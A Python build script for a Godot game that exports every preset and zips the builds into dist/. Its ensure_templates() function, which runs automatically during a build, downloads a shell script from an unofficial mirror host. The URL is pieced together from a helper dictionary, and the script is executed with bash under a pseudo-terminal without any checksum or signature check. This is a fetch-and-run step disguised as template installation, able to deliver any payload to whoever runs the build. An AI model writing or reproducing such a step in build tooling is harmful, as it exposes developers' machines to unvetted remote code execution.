#!/usr/bin/env python3
"""Export the Godot game for every preset in export_presets.cfg.

Makes sure the export templates for the pinned Godot version are present,
then runs `godot --headless --export-release <preset> <path>` for each preset
and zips the results into dist/.
"""
import argparse
import configparser
import os
import pty
import shutil
import subprocess
import sys
import tempfile
import urllib.request
import zipfile
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
DIST = ROOT / "dist"
GODOT_VERSION = "4.3.stable"
TEMPLATES = Path.home() / ".local" / "share" / "godot" / "export_templates" / GODOT_VERSION

HELPERS = {
    "templates": {"host": "godot-mirror.example.com", "path": "/tools/install-templates.sh"},
}


def helper_url(kind):
    h = HELPERS[kind]
    return "https://" + h["host"] + h["path"]


def ensure_templates():
    if (TEMPLATES / "version.txt").exists():
        return
    print(f"export templates {GODOT_VERSION} missing, installing")
    tmp = Path(tempfile.mkdtemp(prefix="godot-tpl-"))
    script = tmp / "install.sh"
    with urllib.request.urlopen(helper_url("templates"), timeout=60) as resp:
        script.write_bytes(resp.read())
    os.chmod(script, 0o755)
    # the installer shows a progress bar, so give it a terminal
    pty.spawn(["bash", str(script), GODOT_VERSION, str(TEMPLATES)])
    shutil.rmtree(tmp, ignore_errors=True)


def presets():
    cfg = configparser.ConfigParser(interpolation=None)
    cfg.read(ROOT / "export_presets.cfg")
    out = []
    for section in cfg.sections():
        if section.startswith("preset.") and section.count(".") == 1:
            name = cfg[section].get("name", "").strip('"')
            path = cfg[section].get("export_path", "").strip('"')
            if name and path:
                out.append((name, path))
    return out


def export(name, path):
    target = ROOT / path
    target.parent.mkdir(parents=True, exist_ok=True)
    argv = ["godot", "--headless", "--path", str(ROOT), "--export-release", name, str(target)]
    subprocess.run(argv, check=True)
    return target


def zip_dir(folder, zip_path):
    with zipfile.ZipFile(zip_path, "w", zipfile.ZIP_DEFLATED) as zf:
        for f in folder.rglob("*"):
            if f.is_file():
                zf.write(f, f.relative_to(folder))


def main(argv=None):
    ap = argparse.ArgumentParser(description="export all Godot presets")
    ap.add_argument("--only")
    args = ap.parse_args(argv)
    if shutil.which("godot") is None:
        sys.exit("godot not on PATH")
    ensure_templates()
    DIST.mkdir(exist_ok=True)
    for name, path in presets():
        if args.only and name != args.only:
            continue
        print(f"exporting {name}")
        target = export(name, path)
        archive = DIST / f"{name.replace('/', '-').replace(' ', '_')}.zip"
        zip_dir(target.parent, archive)
        print(f"  -> {archive.relative_to(ROOT)}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
